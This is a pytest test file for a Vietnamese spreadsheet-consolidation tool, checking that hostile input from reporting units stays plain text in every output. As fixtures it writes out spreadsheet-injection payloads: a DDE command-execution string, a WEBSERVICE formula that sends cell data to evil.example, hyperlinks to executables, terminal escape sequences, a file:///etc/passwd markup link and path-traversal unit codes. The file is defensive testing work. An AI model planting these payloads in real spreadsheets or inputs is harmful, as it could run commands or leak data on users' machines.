"""Hostile inputs (issue 7): no text from a unit becomes a formula, a hyperlink that runs something or markup in any
output, and no name found in a unit's file decides where an output is written.

One inbox holds forms whose every free-text place carries a dangerous string (formula-, DDE- and URL-looking text,
console markup, terminal escapes, XML-looking text, a 100,000-character note), one form with real formulas, an external
workbook link, a defined name, a data validation, a conditional format and an external hyperlink, and forms whose file
name or (forged, checksum recomputed) stamp carries a path. The whole chain runs once through the command line
(validate --json, validate --return-dir, consolidate --out, consolidate --workbook, report, khoi), then every output is
read back: openpyxl and python-calamine for workbooks, python-docx and the raw XML for the report, json for JSON, and
the captured console text.
"""

from __future__ import annotations

import io
import json
import re
import shutil
import unicodedata
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl.cell.cell import TYPE_STRING
from openpyxl.formatting.rule import FormulaRule
from openpyxl.packaging.relationship import Relationship
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink, ExternalSheetNames
from openpyxl.worksheet.datavalidation import DataValidation
from python_calamine import CalamineWorkbook
from thidua import cli
from thidua.appendix import STAMP_SHEET as APPENDIX_STAMP
from thidua.appendix import checksum as appendix_checksum
from thidua.appendix import read_appendix
from thidua.form import form_formulas, write_forms
from thidua.layout import COLUMNS, HEADER, HEADER_VALUE_COL, SHEET_REPORT, SHEET_STAMP, FormLayout, a1, file_name
from thidua.layout import stamp_checksum as form_stamp_checksum
from thidua.period import Period
from thidua.report_text import clean_text
from thidua.returnpkg import safe_stem, unsafe_formula, write_return_package
from thidua.safetext import SafeConsole, json_text, visible
from thidua.samples import fill_form, sample_fill
from thidua.validate import validate_file

ROOT = Path(__file__).resolve().parents[1]
PERIOD = Period(2024, 9)

DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example","x")'
#: Strings a unit can type into any free-text cell of its form.
DANGER = (
    DDE,
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "[bold red]x[/]",
    "[link=file:///etc/passwd]x[/link]",
    "\x1b[2J\x1b[31mxóa màn hình\x1b[0m",
    "<w:p>&amp;]]></w:p>",
    "http://evil.example/run.exe",
    ":thumbs_up: \u202eexe.txt",
    "0123",
)
LONG_NOTE = ("=" + "Giải trình rất dài, " * 5000)[:100_000]
#: File names a unit can choose (the folder is ours; a name is one path component on this system).
ODD_NAMES = {
    "dangerous": '=HYPERLINK(""evil.example"",""x"") [bold red]x @SUM(1).xlsx',
    "backslash": "x..\\..\\thoát \x1b[2J\r [link=https:evil]x.xlsx",
    "reserved": "CON.xlsx",
    "reserved2": "nul.xlsx",
    "nfd": unicodedata.normalize("NFD", ("Báo cáo thi đua tháng chín của đơn vị " * 6))[:160] + ".xlsx",
}
#: Unit codes written into a forged stamp and header (checksum recomputed).
FORGED_CODES = {
    "backslash": "../../x",
    "reserved": "CON",
    "reserved2": "..\\..\\x",
    "nfd": "/tmp/thidua-injection-evil",
}
EVIL_ABSOLUTE = Path("/tmp/thidua-injection-evil")


def looks_dangerous(value: Any) -> bool:
    """A string that a careless writer would turn into a formula, a link or markup (leading blanks looked through)."""
    if not isinstance(value, str) or not value.strip():
        return False
    markers = ("cmd|", "HYPERLINK", "[bold", "[link", "\x1b", "<w:p>", "http://evil", ":thumbs_up:", "SUM(", "../",
               "..\\", "thidua-injection-evil")
    return value.lstrip()[0] in "=+-@" or any(m in value for m in markers)


# ----------------------------------------------------------------------------------------------------------------------
# Building the inbox


def _cell(layout: FormLayout, key: str, column: str) -> str:
    return a1(layout.rows[key], COLUMNS[column][0])


def _text_places(cat, layout: FormLayout) -> list[str]:
    """Every free-text input cell of a form: preparer, target explanations, indicator notes, text indicators."""
    places = [a1(HEADER["preparer"][0], HEADER_VALUE_COL)]
    for target in cat.targets:
        places.append(_cell(layout, f"T{target.number}", "note"))
        for ind in target.indicators:
            places.append(_cell(layout, ind.code, "note"))
            if ind.kind == "text":
                places += [_cell(layout, ind.code, p) for p in ind.periods]
    return places


def _texts(cat, layout, shift: int = 0, long_note: bool = False) -> dict[str, str]:
    """A dangerous string for every free-text place of a form (cell -> text)."""
    texts = {ref: DANGER[(i + shift) % len(DANGER)] for i, ref in enumerate(_text_places(cat, layout))}
    if long_note:
        texts[_cell(layout, "T2", "note")] = LONG_NOTE
    return texts


def stored(text: str) -> str:
    """``text`` as a workbook stores it: characters XML cannot hold as Excel's ``_xHHHH_`` escapes."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda m: f"_x{ord(m.group()):04X}_", text)


def _forge(path: Path, unit_code: str) -> dict[str, str]:
    """Put ``unit_code`` into the form's stamp (checksum recomputed, as anyone can); returns the header cells to write
    (unit code, and a dangerous unit name)."""
    wb = openpyxl.load_workbook(path)
    st = wb[SHEET_STAMP]
    fields = {str(r[0].value): r[1].value for r in st.iter_rows(min_col=1, max_col=2) if r[0].value}
    fields["unit_code"] = unit_code
    fields["checksum"] = form_stamp_checksum(fields)
    for r in st.iter_rows(min_col=1, max_col=2):
        if r[0].value in fields:
            r[1].value = fields[r[0].value]
            r[1].data_type = TYPE_STRING
    wb.save(path)
    return {a1(HEADER["unit_code"][0], HEADER_VALUE_COL): unit_code,
            a1(HEADER["unit_name"][0], HEADER_VALUE_COL): HYPERLINK}


#: The form with real formulas: cells with an external hyperlink, a data validation and a conditional format.
OTHER_HOSTILE_CELLS = (("T3", "note"), ("T4", "note"), ("T5", "note"))


def _real_formulas(path: Path, layout: FormLayout) -> dict[str, str]:
    """Real formulas, an external workbook link, a defined name, a data validation, a conditional format and an
    external hyperlink in the form at ``path``; returns the formula cells written."""
    formulas = {
        _cell(layout, "1.2", "month"): DDE,
        _cell(layout, "1.3", "month"): "=[1]Sheet1!A1",
        _cell(layout, "T1", "note"): HYPERLINK,
        _cell(layout, "T2", "note"): '=WEBSERVICE("http://evil.example/?q="&D14)',
        _cell(layout, "1.4", "month"): "=1+1",
    }
    wb = openpyxl.load_workbook(path)
    ws = wb[SHEET_REPORT]
    for ref, text in formulas.items():
        ws[ref] = text
        assert ws[ref].data_type == "f"
    link_cell = ws[_cell(layout, *OTHER_HOSTILE_CELLS[0])]
    link_cell.value = "Xem minh chứng"
    link_cell.hyperlink = "http://evil.example/minh-chung.exe"
    book = ExternalBook(sheetNames=ExternalSheetNames(["Sheet1"]), id="rId1")
    link = ExternalLink(externalBook=book)
    link.file_link = Relationship(type="externalLinkPath", Target="file:///C:/evil/nguon.xlsx", TargetMode="External",
                                  Id="rId1")
    wb._external_links.append(link)
    wb.defined_names["chay_lenh"] = DefinedName("chay_lenh", attr_text="cmd|' /C calc'!A0")
    dv = DataValidation(type="list", formula1="cmd|' /C calc'!A0", sqref=_cell(layout, *OTHER_HOSTILE_CELLS[1]))
    ws.add_data_validation(dv)
    ws.conditional_formatting.add(_cell(layout, *OTHER_HOSTILE_CELLS[2]), FormulaRule(formula=["cmd|' /C calc'!A0"]))
    wb.save(path)
    return formulas


@dataclass
class World:
    root: Path
    inbox: Path
    out: Path
    cwd: Path
    forms: Path
    formula_cells: dict[str, str] = field(default_factory=dict)
    texts: dict[str, dict[str, str]] = field(default_factory=dict)  # file name -> cell -> dangerous text written
    typed: dict[str, str] = field(default_factory=dict)  # dangerous text in number, list and assessment cells (KHTC)
    hashes: dict[Path, bytes] = field(default_factory=dict)  # inbox files before the run
    runs: dict[str, Any] = field(default_factory=dict)
    before: set[Path] = field(default_factory=set)
    parent_before: set[str] = field(default_factory=set)


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def build_inbox(cat, root: Path) -> World:
    w = World(root, root / "a" / "b" / "inbox", root / "a" / "b" / "out", root / "a" / "b" / "cwd", root / "forms")
    layout = FormLayout.for_catalogue(cat)
    w.inbox.mkdir(parents=True)
    w.cwd.mkdir()
    write_forms(cat, PERIOD, w.forms)

    def form(unit: str, name: str | None = None, **kw) -> Path:
        out = w.inbox / (name or file_name(unit, str(PERIOD)))
        fill_form(w.forms / file_name(unit, str(PERIOD)), out, sample_fill(cat, cat.unit(unit), PERIOD))
        text(out, _texts(cat, layout, **kw))
        return out

    def text(path: Path, cells: dict[str, str]) -> None:
        _write_text(path, cells)
        w.texts.setdefault(path.name, {}).update(cells)

    form("VP")
    form("TTRA", shift=5, long_note=True)
    bad = form("KHTC", shift=9)
    typed = {}  # dangerous strings in number, yes/no and assessment cells
    counts = [ind.code for ind in cat.indicators if ind.kind == "count" and "month" in ind.periods]
    for i, code in enumerate(counts[: len(DANGER)]):
        typed[_cell(layout, code, "month")] = DANGER[i]
    typed[_cell(layout, "T1", "assessment")] = "[bold red]Đạt[/]"
    typed[_cell(layout, "2.3", "month")] = DDE
    text(bad, typed)
    w.typed = typed
    qlcl = form("QLCL", shift=2)
    w.formula_cells = _real_formulas(qlcl, layout)
    for ref in (*w.formula_cells, *OTHER_HOSTILE_CELLS):
        w.texts[qlcl.name].pop(_cell(layout, *ref) if isinstance(ref, tuple) else ref, None)
    form("BQLDA", name=ODD_NAMES["dangerous"], shift=3)
    for key, code in FORGED_CODES.items():
        path = form("TTDK", name=ODD_NAMES[key], shift=7)
        text(path, _forge(path, code))
    # Every dangerous string of the inputs is stored as a text cell, and reads back as the literal string.
    for path in sorted(w.inbox.iterdir()):
        ws = openpyxl.load_workbook(path)[SHEET_REPORT]
        grid = CalamineWorkbook.from_path(str(path)).get_sheet_by_name(SHEET_REPORT).to_python(skip_empty_area=False)
        for ref, text in w.texts[path.name].items():
            assert ws[ref].data_type == "s", (path.name, ref)
            r, c = openpyxl.utils.cell.coordinate_to_tuple(ref)
            assert grid[r - 1][c - 1] == text, (path.name, ref)
    return w


def _write_text(path: Path, cells: dict[str, str]) -> None:
    """Write ``cells`` into the report sheet as text cells (``data_type`` "s"), exactly as given: no length limit, no
    formula, control characters stored the way Excel stores them."""
    wb = openpyxl.load_workbook(path)
    ws = wb[SHEET_REPORT]
    for ref, value in cells.items():
        ws[ref]._value = stored(value)
        ws[ref].data_type = TYPE_STRING
    wb.save(path)


# ----------------------------------------------------------------------------------------------------------------------
# Running the chain


def _forge_appendix(src: Path, dst: Path) -> None:
    """A member department's appendix whose stamp names carry dangerous text (checksum recomputed)."""
    app = read_appendix(src)
    stamp = dict(app.stamp)
    stamp["department"] = "[bold red]Sở giả[/] \x1b[2J " + HYPERLINK
    stamp["department_code"] = DDE
    rows = [[r[c] for c in app.columns] for r in app.rows]
    stamp["checksum"] = appendix_checksum(stamp, app.columns, rows)
    wb = openpyxl.load_workbook(src)
    st = wb[APPENDIX_STAMP]
    for row in st.iter_rows(min_col=1, max_col=2):
        key = row[0].value
        if key in ("department", "department_code", "checksum"):
            row[1]._value, row[1].data_type = stored(stamp[key]), TYPE_STRING
    wb.save(dst)


@pytest.fixture(scope="module")
def world(catalogue, tmp_path_factory) -> World:
    root = tmp_path_factory.mktemp("injection")
    assert not EVIL_ABSOLUTE.exists()
    w = build_inbox(catalogue, root)
    w.before = _files(root)
    w.hashes = {p: p.read_bytes() for p in w.inbox.iterdir()}
    w.parent_before = {p.name for p in root.parent.iterdir()}
    out, inbox = w.out, str(w.inbox)
    runner = CliRunner()
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(w.cwd)
        mp.setattr(cli.out, "_width", 4000)
        mp.setattr(cli.console, "_width", 4000)

        def run(key: str, *args: str) -> None:
            w.runs[key] = runner.invoke(cli.app, list(args), catch_exceptions=False)

        period = str(PERIOD)
        run("validate_json", "validate", inbox, "--period", period, "--json")
        run("validate", "validate", inbox, "--period", period, "--return-dir", str(out / "tra-lai"))
        ledger = str(out / "ledger.sqlite")
        run("consolidate_json", "consolidate", inbox, "--period", period, "--ledger", ledger, "--out",
            str(out / "tong-hop.xlsx"), "--json")
        shutil.copyfile(ROOT / "workbook" / "ThiDua2024.xlsm", out / "ThiDua2024.xlsm")
        w.before.add(out / "ThiDua2024.xlsm")
        run("consolidate", "consolidate", inbox, "--period", period, "--ledger", str(out / "ledger-xlsm.sqlite"),
            "--workbook", str(out / "ThiDua2024.xlsm"))
        run("report", "report", "--period", period, "--ledger", ledger, "--out", str(out / "bao-cao"))
        appendix = next((out / "bao-cao").glob("PhuLuc_*.xlsx"))
        forged = out / "cac-so" / "PhuLuc_SoGia.xlsx"
        forged.parent.mkdir()
        _forge_appendix(appendix, forged)
        w.before.add(forged)
        run("khoi", "khoi", str(appendix), str(forged), "--period", period, "--out", str(out / "khoi.xlsx"))
        run("khoi_json", "khoi", str(appendix), str(forged), "--period", period, "--out",
            str(out / "khoi-json.xlsx"), "--json")
    return w


# ----------------------------------------------------------------------------------------------------------------------
# Reading outputs back

#: Raw characters that must never reach a terminal or a JSON text (newline aside).
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_ESCAPED = re.compile(r"_x([0-9A-Fa-f]{4})_")


def decoded(value: Any) -> Any:
    """A cell string as Excel shows it (openpyxl leaves ``_xHHHH_`` escapes as they are stored)."""
    return _ESCAPED.sub(lambda m: chr(int(m.group(1), 16)), value) if isinstance(value, str) else value


@dataclass
class Readback:
    """What one workbook held when read back."""

    texts: dict[tuple[str, str], str] = field(default_factory=dict)  # dangerous-looking text cells, decoded
    cells: dict[tuple[str, str], str] = field(default_factory=dict)  # every text cell, decoded
    formulas: int = 0
    internal_links: int = 0


def _unsafe(formula: Any) -> bool:
    bare = re.sub(r'"(?:[^"]|"")*"', "", str(formula or ""))
    return "|" in bare or "[" in bare or "HYPERLINK" in bare.upper() or "WEBSERVICE" in bare.upper()


def read_back(path: Path, allowed: dict[tuple[str, str], str] | None = None) -> Readback:
    """Every check that applies to any workbook we write: no external parts or relationships, no formula but the
    ``allowed`` ones (sheet, cell -> formula), dangerous-looking strings only in text cells, hyperlinks only to places
    inside the workbook, nothing unsafe in defined names, validations or conditional formats; python-calamine reads
    the same strings."""
    allowed = allowed or {}
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            low = name.lower()
            assert "externallink" not in low and "connections" not in low and "querytable" not in low, name
            if low.endswith(".rels"):
                rels = z.read(name).decode("utf-8")
                assert 'TargetMode="External"' not in rels, (path.name, name)
                assert "/hyperlink" not in rels, (path.name, name)
    wb = openpyxl.load_workbook(path, rich_text=False)
    assert not wb._external_links
    assert not [n for n, d in wb.defined_names.items() if _unsafe(d.attr_text)]
    seen = Readback()
    for ws in wb.worksheets:
        assert not [n for n, d in ws.defined_names.items() if _unsafe(d.attr_text)]
        assert not [dv for dv in ws.data_validations.dataValidation if _unsafe(dv.formula1) or _unsafe(dv.formula2)]
        assert not [r for cf in ws.conditional_formatting for r in cf.rules if any(map(_unsafe, r.formula or ()))]
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    assert allowed.get((ws.title, c.coordinate)) == c.value, (path.name, ws.title, c.coordinate)
                    seen.formulas += 1
                elif looks_dangerous(decoded(c.value)):
                    assert c.data_type == "s", (path.name, ws.title, c.coordinate)
                    seen.texts[(ws.title, c.coordinate)] = decoded(c.value)
                if c.data_type == "s":
                    seen.cells[(ws.title, c.coordinate)] = decoded(c.value)
                if c.hyperlink is not None:
                    assert not c.hyperlink.target and not c.hyperlink.id, (path.name, c.coordinate)
                    assert c.hyperlink.location and not _unsafe(c.hyperlink.location)
                    seen.internal_links += 1
    calamine = CalamineWorkbook.from_path(str(path))
    grids: dict[str, list[list[Any]]] = {}
    for (sheet, ref), text in seen.texts.items():
        if sheet not in grids:
            grids[sheet] = calamine.get_sheet_by_name(sheet).to_python(skip_empty_area=False)
        r, c = openpyxl.utils.cell.coordinate_to_tuple(ref)
        assert grids[sheet][r - 1][c - 1] == text, (path.name, sheet, ref)
    return seen


def _form_formulas(path: Path) -> dict[tuple[str, str], str]:
    wb = openpyxl.load_workbook(path)
    return {(ws.title, c.coordinate): c.value for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f"}


def _valid_texts(world: World) -> set[str]:
    """The dangerous strings of the files that pass validation (they reach the master and the report)."""
    return {t for name in ("ThiDua_2024-09_VP.xlsx", ODD_NAMES["dangerous"]) for t in world.texts[name].values()}


def _no_raw_controls(text: str, what: str) -> None:
    found = RAW_CONTROL.findall(text)
    assert not found, f"{what}: raw control characters {found!r}"


# ----------------------------------------------------------------------------------------------------------------------
# The tests


def test_inbox_holds_dangerous_text_and_real_formulas(world):
    """The inputs are what they claim (checked cell by cell while building): text cells, and one file of real
    formulas."""
    assert sum(map(len, world.texts.values())) >= 400
    assert {p.name for p in world.inbox.iterdir()} >= set(ODD_NAMES.values())
    qlcl = openpyxl.load_workbook(world.inbox / "ThiDua_2024-09_QLCL.xlsx", keep_links=True)
    ws = qlcl[SHEET_REPORT]
    assert all(ws[ref].data_type == "f" and ws[ref].value == f for ref, f in world.formula_cells.items())
    assert qlcl._external_links and "chay_lenh" in qlcl.defined_names
    assert any(c.hyperlink is not None and c.hyperlink.target for row in ws.iter_rows() for c in row)


def test_validate_json_gives_the_literal_strings(world):
    run = world.runs["validate_json"]
    assert run.exit_code == 1
    _no_raw_controls(run.stdout, "validate --json")
    data = json.loads(run.stdout)
    assert {f["path"] for f in data["files"]} == {str(p) for p in world.inbox.iterdir()}
    by_name = {Path(f["path"]).name: f for f in data["files"]}
    khtc = {(f["cell"], f["value"]) for f in by_name["ThiDua_2024-09_KHTC.xlsx"]["findings"]}
    assert set(world.typed.items()) <= khtc  # every dangerous value comes back as exactly what was typed
    assert {by_name[ODD_NAMES[k]]["unit"] for k in FORGED_CODES} == set(FORGED_CODES.values())
    assert by_name[ODD_NAMES["dangerous"]]["valid"] and by_name["ThiDua_2024-09_VP.xlsx"]["valid"]


def test_validate_console_shows_markup_literally_and_no_control_characters(world):
    run = world.runs["validate"]
    assert run.exit_code == 1
    text = run.output
    _no_raw_controls(text, "validate")
    assert ODD_NAMES["dangerous"].removesuffix(".xlsx") in text  # "[bold red]" printed, not applied
    assert "“[bold red]x[/]”" in text and "“[link=file:///etc/passwd]x[/link]”" in text
    assert "␛[2J" in text and "x..\\..\\thoát" in text  # ESC made visible
    assert ":thumbs_up:" in text and "👍" not in text
    assert "Đã ghi 7 tệp trả lại vào" in text


def test_return_packages_keep_text_as_text_and_run_nothing(world, catalogue):
    folder = world.out / "tra-lai"
    names = {p.name for p in folder.iterdir()}
    sources = {"ThiDua_2024-09_KHTC.xlsx": "ThiDua_2024-09_KHTC.xlsx", "ThiDua_2024-09_QLCL.xlsx":
               "ThiDua_2024-09_QLCL.xlsx", "ThiDua_2024-09_TTRA.xlsx": "ThiDua_2024-09_TTRA.xlsx"}
    sources.update({f"{safe_stem(ODD_NAMES[k])}.xlsx": ODD_NAMES[k] for k in FORGED_CODES})
    assert names == set(sources) and {"tep_CON.xlsx", "tep_nul.xlsx"} <= names
    for name in names:
        assert re.fullmatch(r"[\w\-. ()]{1,80}\.xlsx", name) and unicodedata.is_normalized("NFC", name), name
        assert not name.startswith(".") and ".." not in name
    own = _form_formulas(world.forms / file_name("VP", str(PERIOD)))
    checked = 0
    for name, source in sources.items():
        back = read_back(folder / name, own)
        assert back.formulas == len(own)  # the form's live checks still work
        assert back.internal_links > 0  # the findings sheet links to the cells
        expected = {(SHEET_REPORT, ref): text[:32767] for ref, text in world.texts[source].items()}
        assert {k: back.cells.get(k) for k in expected} == expected, name
        checked += len(back.texts)
    qlcl = openpyxl.load_workbook(folder / "ThiDua_2024-09_QLCL.xlsx")
    ws = qlcl[SHEET_REPORT]
    layout = FormLayout.for_catalogue(catalogue)
    for ref, formula in world.formula_cells.items():
        assert ws[ref].data_type == "s" and ws[ref].value == formula
        assert "đã được chuyển thành chữ" in ws[ref].comment.text
    link = ws[_cell(layout, *OTHER_HOSTILE_CELLS[0])]
    assert link.hyperlink is None and link.value == "Xem minh chứng" and "gỡ bỏ" in link.comment.text
    assert "chay_lenh" not in qlcl.defined_names
    ttra = openpyxl.load_workbook(folder / "ThiDua_2024-09_TTRA.xlsx")[SHEET_REPORT][_cell(layout, "T2", "note")]
    assert len(ttra.value) == 32767 and "32.767" in ttra.comment.text
    assert checked >= 7 * 40


def test_master_xlsx_holds_unit_text_as_text(world):
    run = world.runs["consolidate_json"]
    assert run.exit_code == 1
    _no_raw_controls(run.stdout, "consolidate --json")
    data = json.loads(run.stdout)
    assert data["outputs"]["master"] == str(world.out / "tong-hop.xlsx")
    rejected = {r["file"]: r for r in data["rejected"]}
    names = {unicodedata.normalize("NFC", ODD_NAMES[k]): code for k, code in FORGED_CODES.items()}
    assert {n: rejected[n]["unit"] for n in names} == names  # names as on disk (NFC), ESC and CR included
    assert f"“{DDE}”" in rejected["ThiDua_2024-09_KHTC.xlsx"]["reason"]
    back = read_back(world.out / "tong-hop.xlsx")
    assert back.formulas == 0 and back.internal_links == 0
    values = set(back.texts.values())
    assert {t for t in _valid_texts(world) if looks_dangerous(t)} <= values
    assert ODD_NAMES["dangerous"] in values and set(world.typed.values()) <= set(
        back.cells.values())
    assert set(FORGED_CODES.values()) <= set(back.cells.values())
    assert len(back.texts) >= 150


def test_master_xlsm_copy_holds_unit_text_as_text(world):
    run = world.runs["consolidate"]
    assert run.exit_code == 1
    _no_raw_controls(run.output, "consolidate")
    assert "Bị trả lại: x..\\..\\thoát ␛[2J [link=https:evil]x.xlsx (../../x)" in run.output
    assert f"“{DDE}”" in run.output and "Bảng tổng hợp:" in run.output
    original = _form_formulas(ROOT / "workbook" / "ThiDua2024.xlsm")
    back = read_back(world.out / "ThiDua2024.xlsm", original)
    assert {t for t in _valid_texts(world) if looks_dangerous(t)} <= set(back.texts.values())
    with zipfile.ZipFile(world.out / "ThiDua2024.xlsm") as z:
        assert "xl/vbaProject.bin" in z.namelist()
    assert len(back.texts) >= 150


def test_report_docx_has_plain_text_only(world):
    run = world.runs["report"]
    assert run.exit_code == 0
    _no_raw_controls(run.output, "report")
    path = next((world.out / "bao-cao").glob("BaoCao_*.docx"))
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith((".xml", ".rels"))}
    for name, xml in parts.items():
        assert "fldSimple" not in xml and "<w:hyperlink" not in xml, name
        assert set(re.findall(r"<w:instrText[^>]*>([^<]*)<", xml)) <= {" PAGE "}, name
        if name.endswith(".rels"):
            assert 'TargetMode="External"' not in xml and "/hyperlink" not in xml, name
    assert "&lt;w:p&gt;&amp;amp;]]&gt;&lt;/w:p&gt;" in parts["word/document.xml"]
    document = docx.Document(str(path))
    paragraphs = [p.text for p in document.paragraphs]
    paragraphs += [p.text for t in document.tables for row in t.rows for cell in row.cells for p in cell.paragraphs]
    paragraphs += [p.text for s in document.sections for p in (*s.header.paragraphs, *s.footer.paragraphs)]
    for text in paragraphs:
        _no_raw_controls(text, "report paragraph")
    quoted = {q for text in paragraphs for q in re.findall(r"“([^”]*)”", text)}
    cleaned = {clean_text(t) for t in _valid_texts(world)}
    dangerous = {q for q in quoted if looks_dangerous(q) or q in cleaned}
    assert dangerous <= cleaned  # every quote of a unit is its text, cleaned of control characters, nothing else
    # The highlights are chosen per target by a stable rule (thidua.report.compute), so not every planted note is
    # quoted; the formula-looking ones that are quoted stay plain text.
    assert {HYPERLINK, DDE, "<w:p>&amp;]]></w:p>", "-2+3", "@SUM(1)"} <= dangerous
    assert ":thumbs_up: exe.txt" in dangerous  # the right-to-left override is gone


def test_appendix_and_khoi_hold_text_as_text(world):
    appendix = next((world.out / "bao-cao").glob("PhuLuc_*.xlsx"))
    back = read_back(appendix)
    assert back.formulas == 0 and set(FORGED_CODES.values()) <= set(back.cells.values())
    assert read_appendix(appendix).ok
    run = world.runs["khoi"]
    assert run.exit_code == 0, run.output
    _no_raw_controls(run.output, "khoi")
    assert "[bold red]Sở giả[/] ␛[2J =HYPERLINK(" in run.output
    raw = world.runs["khoi_json"].stdout
    _no_raw_controls(raw, "khoi --json")
    departments = {d["department"]: d["department_code"] for d in json.loads(raw)["departments"]}
    assert departments["[bold red]Sở giả[/] \x1b[2J " + HYPERLINK] == DDE
    khoi = read_back(world.out / "khoi.xlsx")
    assert khoi.formulas == 0
    assert {DDE, clean_text("[bold red]Sở giả[/] \x1b[2J " + HYPERLINK)} <= set(khoi.texts.values())


def test_nothing_is_written_outside_the_chosen_folders(world):
    new = _files(world.root) - world.before
    assert new and all(p.resolve().is_relative_to(world.out.resolve()) for p in new), sorted(map(str, new))
    assert not list(world.cwd.iterdir())
    assert {p.name for p in world.root.parent.iterdir()} == world.parent_before
    assert not EVIL_ABSOLUTE.exists()
    assert {p: p.read_bytes() for p in world.inbox.iterdir()} == world.hashes  # inputs untouched
    for p in new:
        parts = p.relative_to(world.out).parts
        assert parts[0] in ("tra-lai", "bao-cao", ".backup", "ledger.sqlite", "ledger-xlsm.sqlite", "tong-hop.xlsx",
                            "khoi.xlsx", "khoi-json.xlsx"), p
        assert len(parts) <= 2 and all(part not in ("x", "..") for part in parts), p


# ----------------------------------------------------------------------------------------------------------------------
# The pieces


def test_form_formulas_are_exactly_the_forms_formulas(world, catalogue):
    own = _form_formulas(world.forms / file_name("TTSH", str(PERIOD)))
    assert own == {(SHEET_REPORT, ref): f for ref, f in form_formulas(catalogue).items()}


def test_return_package_keeps_a_resaved_check_formula_but_nothing_else(make_form, catalogue, tmp_path):
    """A live check re-serialised by another spreadsheet program stays; the same formula elsewhere, one that reaches
    another sheet, or one calling an unsafe function becomes text."""
    layout = FormLayout.for_catalogue(catalogue)
    own = form_formulas(catalogue)
    check, other_check = _cell(layout, "1.1", "check"), _cell(layout, "1.2", "check")
    note = _cell(layout, "1.1", "note")
    path = make_form()
    wb = openpyxl.load_workbook(path)
    ws = wb[SHEET_REPORT]
    ws[check] = own[check].replace(",", ", ")  # same functions, spaces added
    ws[other_check] = "=Hướng_dẫn!A1"
    ws[note] = own[check]  # the form's own formula, but in an input cell
    ws[_cell(layout, "1.3", "check")] = '=IF(D16="","",INDIRECT("[x.xlsx]A!A1"))'
    wb.save(path)
    result = validate_file(path, catalogue, PERIOD)
    assert not result.valid
    package = write_return_package(result, tmp_path / "out", catalogue)
    ws = openpyxl.load_workbook(package)[SHEET_REPORT]
    assert ws[check].data_type == "f" and ws[check].value == own[check].replace(",", ", ")
    for ref in (other_check, note, _cell(layout, "1.3", "check")):
        assert ws[ref].data_type == "s" and ws[ref].value.startswith("="), ref
        assert "đã được chuyển thành chữ" in ws[ref].comment.text
    assert ws[_cell(layout, "1.4", "check")].value == own[_cell(layout, "1.4", "check")]


def test_unsafe_formula():
    for formula in (DDE, "=[1]Sheet1!A1", HYPERLINK, '=WEBSERVICE("x")', "=_xlfn.WEBSERVICE(A1)", "=CALL(1)",
                    "cmd|' /C calc'!A0", '=INDIRECT("A1")'):
        assert unsafe_formula(formula), formula
    for formula in (None, "", "=1+1", '=IF(A1="[x]|y","a","b")', "=SUM(A1:A3)", "='Báo cáo'!$D$7"):
        assert not unsafe_formula(formula), formula


def test_visible_and_json_text():
    assert visible("a\x1b[2J\rb\tc\nd\x00\x7f\x9b\u202e") == "a␛[2J␍b\tc\nd␀␡\\u009b\\u202e"
    assert visible("Nguyễn Thị Hoa") == "Nguyễn Thị Hoa"
    data = {"x": "a\x1b\x7f\x85\u202e\u2066b", "y": ["[bold]"]}
    text = json_text(json.dumps(data, ensure_ascii=False))
    assert not RAW_CONTROL.search(text) and json.loads(text) == data


def test_safe_console_never_writes_a_raw_control_character():
    from rich.markup import escape
    from rich.table import Table
    from rich.text import Text

    buf = io.StringIO()
    console = SafeConsole(file=buf, width=200, force_terminal=True, color_system="standard", highlight=False)
    table = Table()
    table.add_column("Tệp")
    table.add_row(Text("x\x1b[2J\u202e.xlsx"))
    console.print(table)
    hostile = "[bold]x[/] :thumbs_up: \x1b]8;;file:///etc/passwd\x1b\\y"  # markup, emoji code, OSC 8 hyperlink
    console.print(f"[red]Lỗi[/] {escape(hostile)}")
    console.print(Text("a\x07b\x9bc"))
    console.print(Text("x\x1b[2J\u202e.xlsx"))
    out = buf.getvalue()
    assert "\x1b[31m" in out  # our own colours are still there (a terminal)
    plain = re.sub(r"\x1b\[[0-9;]*m", "", out)  # ... and they are the only escape sequences
    _no_raw_controls(plain.replace("\n", ""), "SafeConsole")
    # (a table sizes its column before the stand-ins widen the text: the cell may be cut short, never raw)
    assert "│ x␛[2J" in plain and "[bold]x[/] :thumbs_up: ␛]8;;file:///etc/passwd␛\\y" in plain
    assert "ab\\u009bc\nx␛[2J\\u202e.xlsx" in plain  # rich drops BEL itself
